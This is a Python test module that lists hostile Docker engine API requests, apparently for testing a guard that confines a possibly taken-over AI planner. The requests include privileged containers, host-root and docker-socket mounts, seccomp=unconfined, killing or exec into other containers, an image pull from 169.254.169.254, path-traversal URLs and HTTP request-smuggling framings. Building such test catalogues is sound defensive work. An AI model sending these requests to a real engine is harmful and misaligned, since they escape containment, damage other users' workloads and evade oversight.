"""What a planner that was taken over might ask an engine for; a guard refuses each."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from runner.model import Limits
from runner.sandbox import spec

V = "/v1.41"
HOST = "Host: engine"
SOCKET = "/var/run/docker.sock"


@dataclass(frozen=True)
class Ground:
    """Names on the engine: a container, its id, and an image of somebody else's; a container and an
    image of oppie's own; and the run that the attacks claim to be of."""

    theirs: str
    theirs_id: str
    their_image: str
    ours: str
    our_image: str
    run_id: str


@dataclass(frozen=True)
class Attack:
    """``said`` is what goes over the connection."""

    name: str
    said: bytes


def attacks(ground: Ground) -> list[Attack]:
    return [*_containers(ground), *_others(ground), *_images(ground), *_calls(ground), *_wire(ground)]


def request(method: str, target: str, body: bytes | None = None, *headers: str) -> bytes:
    length = [] if body is None else [f"Content-Length: {len(body)}"]
    lines = "\r\n".join((f"{method} {target} HTTP/1.1", HOST, *headers, *length))
    return f"{lines}\r\n\r\n".encode() + (body or b"")


def config(ground: Ground) -> dict[str, Any]:
    """A container that the guard would let through."""
    host = spec.host_config(Limits(), "none")
    labels = spec.step_labels(ground.run_id, spec.KIND_STEP, "A-1")
    found: dict[str, Any] = json.loads(
        json.dumps(spec.container_config(ground.our_image, ("true",), host, labels))
    )
    return found


def create(ground: Ground, found: dict[str, Any] | bytes, name: str = "evil", **more: str) -> bytes:
    query = "".join(f"&{key}={value}" for key, value in more.items())
    body = found if isinstance(found, bytes) else json.dumps(found).encode()
    target = f"{V}/containers/create?name=oppie-{ground.run_id}-{name}{query}"
    return request("POST", target, body, "Content-Type: application/json")


def _containers(ground: Ground) -> Iterator[Attack]:
    bind = {"Type": "bind", "Target": "/h", "ReadOnly": True}
    bind |= {"BindOptions": {"Propagation": "rprivate", "NonRecursive": True}}
    hosts: dict[str, dict[str, object]] = {
        "privileged": {"Privileged": True},
        "privileged, in other letters": {"privileged": True},
        "the host's files": {"Binds": ["/:/host"]},
        "the engine's socket": {"Binds": [f"{SOCKET}:{SOCKET}"]},
        "the socket as a mount": {"Mounts": [bind | {"Source": SOCKET}]},
        "another's volume": {"Mounts": [{"Type": "volume", "Source": "db", "Target": "/workspace"}]},
        "volumes of another": {"VolumesFrom": [ground.theirs]},
        "capabilities": {"CapAdd": ["SYS_ADMIN"]},
        "no capability dropped": {"CapDrop": []},
        "a device": {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda"}]},
        "the host's processes": {"PidMode": "host"},
        "the host's memory": {"IpcMode": "host"},
        "the host's name": {"UTSMode": "host"},
        "the host's network": {"NetworkMode": "host"},
        "a network": {"NetworkMode": "bridge"},
        "another's network": {"NetworkMode": f"container:{ground.theirs}"},
        "a step's network": {"NetworkMode": f"container:{ground.ours}"},
        "no system call filter": {"SecurityOpt": ["no-new-privileges", "seccomp=unconfined"]},
        "another runtime": {"Runtime": "other"},
        "no limit of memory": {"Memory": 0, "MemorySwap": 0},
        "another cgroup": {"CgroupParent": "/"},
        "it never ends": {"RestartPolicy": {"Name": "always"}},
        "it removes itself": {"AutoRemove": True},
    }
    for name, change in hosts.items():
        found = config(ground)
        found["HostConfig"] |= change
        yield Attack(f"container: {name}", create(ground, found))
    tops: dict[str, dict[str, object]] = {
        "root": {"User": "0:0"},
        "another's image": {"Image": ground.their_image},
        "nobody's label": {"Labels": {spec.RUN: ""}},
        "another's labels": {"Labels": {spec.RUN: ground.run_id, "com.example": "x"}},
        "no walls": {"HostConfig": {}},
        "walls of one key": {"HostConfig.CapDrop": ["ALL"]},
        "networks by the back door": {"NetworkingConfig": {"EndpointsConfig": {"host": {}}}},
    }
    for name, change in tops.items():
        yield Attack(f"container: {name}", create(ground, config(ground) | change))
    text = json.dumps(config(ground))
    twice = text[:-1] + ', "HostConfig": {"Privileged": true}}'
    yield Attack("container: keys twice", create(ground, twice.encode()))
    yield Attack("container: two bodies", create(ground, (text + '{"User": "0"}').encode()))
    other = request("POST", f"{V}/containers/create?name=db", text.encode())
    yield Attack("container: another's name", other)
    yield Attack("container: another platform", create(ground, config(ground), platform="x"))


def _others(ground: Ground) -> Iterator[Attack]:
    theirs = f"{V}/containers/{ground.theirs}"
    tcp = ("Connection: Upgrade", "Upgrade: tcp")
    yield Attack("theirs: attach", request("POST", f"{theirs}/attach?stdin=1&stream=1", b"", *tcp))
    yield Attack("theirs: files in", request("PUT", f"{theirs}/archive?path=/", bytes(1024)))
    for verb in ("start", "wait", "kill?signal=SIGKILL", "stop", "restart", "pause", "update", "exec"):
        yield Attack(f"theirs: {verb}", request("POST", f"{theirs}/{verb}", b""))
    yield Attack("theirs: rename", request("POST", f"{theirs}/rename?name=oppie-x", b""))
    for verb in ("json", "logs?stdout=1", "export", "archive?path=/", "changes", "top", "stats"):
        yield Attack(f"theirs: {verb}", request("GET", f"{theirs}/{verb}"))
    yield Attack("theirs: removed", request("DELETE", f"{theirs}?force=1"))
    for size in (64, 12):
        target = f"{V}/containers/{ground.theirs_id[:size]}/kill?signal=SIGKILL"
        yield Attack(f"theirs: killed by {size} digits", request("POST", target, b""))
    target = f"{V}/commit?container={ground.theirs}&repo=oppie/{ground.run_id}&tag=A"
    labels = json.dumps({"Labels": {spec.RUN: ground.run_id}}).encode()
    yield Attack("theirs: committed", request("POST", target, labels))
    for odd in (f"/{ground.theirs}", f"{ground.ours}/../{ground.theirs}", f"{ground.theirs}?x=", ""):
        target = f"{V}/commit?container={quote(odd, safe='')}&repo=oppie/{ground.run_id}&tag=A"
        yield Attack(f"theirs: committed as {odd!r}", request("POST", target, labels))
    filters = json.dumps({"container": [ground.theirs]}).replace(" ", "").replace('"', "%22")
    yield Attack("theirs: events", request("GET", f"{V}/events?until=1&filters={filters}"))


def _images(ground: Ground) -> Iterator[Attack]:
    image, run = ground.their_image, ground.run_id
    for verb in ("json", "get", "history"):
        yield Attack(f"image: {verb}", request("GET", f"{V}/images/{image}/{verb}"))
    yield Attack("image: removed", request("DELETE", f"{V}/images/{image}?force=False&noprune=True"))
    target = f"{V}/images/{ground.our_image}?force=False&noprune=True"
    yield Attack("image: the agent's removed", request("DELETE", target))
    yield Attack("image: named", request("POST", f"{V}/images/{image}/tag?repo=oppie/{run}&tag=A", b""))
    target = f"{V}/images/{ground.our_image}/tag?repo=debian&tag=12"
    yield Attack("image: another's name", request("POST", target, b""))
    yield Attack("image: pushed", request("POST", f"{V}/images/{ground.our_image}/push", b""))
    for query in ("fromImage=debian&tag=12", "fromSrc=http://169.254.169.254/&repo=oppie/base&tag=1"):
        yield Attack(f"image: {query[:12]}", request("POST", f"{V}/images/create?{query}", b""))
    commit = f"{V}/commit?container={ground.ours}&repo=oppie/agent&tag=latest"
    labels = json.dumps({"Labels": {spec.RUN: run}}).encode()
    yield Attack("image: committed as the agent's", request("POST", commit, labels))
    for query in ("t=debian:12", "t=oppie/x:1&networkmode=host", "remote=http://example.com/", "pull=1",
                  "t=oppie/x:1&cgroupparent=/", "t=oppie/x:1&extrahosts=a:1", "version=2"):  # fmt: skip
        yield Attack(f"build: {query}", request("POST", f"{V}/build?{query}", bytes(1024)))
    manifest = [{"Config": "x", "RepoTags": [image], "Layers": []}]
    yield Attack("load: another's name", request("POST", f"{V}/images/load", _tar(manifest)))


def _calls(ground: Ground) -> Iterator[Attack]:
    exec_body = json.dumps({"Cmd": ["sh"], "Privileged": True}).encode()
    posts = ("swarm/init", "swarm/join", "volumes/create", "networks/create", "networks/bridge/connect",
             "plugins/pull", "secrets/create", "services/create", "auth", "containers/prune",
             "images/prune", "volumes/prune", "build/prune", "exec/abc/start",
             f"containers/{ground.ours}/exec", f"containers/{ground.ours}/update",
             f"containers/{ground.ours}/rename")  # fmt: skip
    for path in posts:
        yield Attack(f"call: POST {path}", request("POST", f"{V}/{path}", exec_body))
    gets = ("volumes", "networks", "plugins", "nodes", "system/df", "containers/json?all=1",
            "images/json", "images/search?term=x", "events", "info?x=1",
            "events?until=1&filters={%22type%22:[%22container%22]}",
            "events?until=1&filters={%22event%22:[%22start%22]}",
            "containers/json?filters={%22label%22:[%22com.example%22]}",
            "containers/json?filters={%22name%22:[%22x%22]}",
            "images/json?filters={%22reference%22:[%22*%22]}",
            "containers/json?filters={%22reference%22:[%22oppie/agent-*%22]}")  # fmt: skip
    for path in gets:
        yield Attack(f"call: GET {path}", request("GET", f"{V}/{path}"))
    yield Attack("call: no version", request("GET", "/containers/json"))
    yield Attack("call: HEAD", request("HEAD", "/_ping"))
    yield Attack("call: a start with a body", request(
        "POST", f"{V}/containers/{ground.ours}/start", b'{"Privileged": true}'))  # fmt: skip
    yield Attack("call: libpod", request("GET", f"/v4.0.0/libpod/containers/{ground.theirs}/json"))


def _wire(ground: Ground) -> Iterator[Attack]:
    kill = f"containers/{ground.theirs}/kill?signal=SIGKILL"
    paths = {
        "dots": f"{V}/containers/{ground.ours}/../{ground.theirs}/kill",
        "encoded dots": f"{V}/containers/%2e%2e/{kill}",
        "an encoded slash": f"{V}/containers/{ground.ours}%2f..%2f{ground.theirs}/kill",
        "double slashes": f"{V}//{kill}",
        "a double prefix": f"{V}{V}/{kill}",
        "an old version": f"/v1.12/containers/{ground.ours}/start",
        "a slash at the end": f"{V}/containers/{ground.ours}/start/",
        "another host's": f"http://engine{V}/{kill}",
        "a fragment": f"{V}/{kill}#x",
        "keys twice": f"{V}/containers/{ground.ours}/kill?signal=SIGKILL&signal=SIGSTOP",
    }
    for name, target in paths.items():
        yield Attack(f"path: {name}", request("POST", target, b""))
    smuggled = request("POST", f"{V}/{kill}")
    start, length = f"{V}/containers/{ground.ours}/start", f"Content-Length: {len(smuggled)}"
    chunked, body = "Transfer-Encoding: chunked", b"0\r\n\r\n" + smuggled
    yield Attack("wire: two framings", request("POST", start, body, chunked))
    yield Attack("wire: two lengths", request("POST", start, smuggled, "Content-Length: 0"))
    yield Attack("wire: a length twice", request("POST", start, smuggled, length))
    folded = request("POST", start, b"", "X: y\r\n Transfer-Encoding: chunked")
    yield Attack("wire: a folded header", folded)
    yield Attack("wire: bare line feeds", request("POST", start, b"").replace(b"\r\n", b"\n") + b"\r\n\r\n")
    yield Attack("wire: a line feed in a header", request("POST", start, b"", f"X: y\n{chunked}"))
    yield Attack("wire: space before a colon", request("POST", start, b"", "Content-Length : 5"))
    yield Attack("wire: a request in a body", request("POST", start, smuggled))
    yield Attack("wire: no host", f"GET {V}/info HTTP/1.1\r\n\r\n".encode())
    yield Attack("wire: HTTP/1.0", f"GET {V}/info HTTP/1.0\r\n{HOST}\r\n\r\n".encode())
    yield Attack("wire: a huge head", request("GET", "/_ping", None, f"X: {'x' * (1 << 20)}"))
    yield Attack("wire: HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    upgrades = {
        "a session": ("session", "h2c"),
        "gRPC": ("grpc", "h2c"),
        "a start": (f"containers/{ground.ours}/start", "tcp"),
        "another protocol": (f"containers/{ground.ours}/attach?stdin=1", "h2c"),
        "a websocket": (f"containers/{ground.ours}/attach/ws", "websocket"),
    }
    for name, (path, protocol) in upgrades.items():
        headers = ("Connection: Upgrade", f"Upgrade: {protocol}")
        yield Attack(f"upgrade: {name}", request("POST", f"{V}/{path}", b"", *headers))
    plain = request("POST", f"{V}/containers/{ground.ours}/attach?stdin=1", b"")
    yield Attack("upgrade: none for a stream", plain)


def _tar(manifest: object) -> bytes:
    out, data = io.BytesIO(), json.dumps(manifest).encode()
    with tarfile.open(fileobj=out, mode="w") as tar:
        info = tarfile.TarInfo("manifest.json")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return out.getvalue()
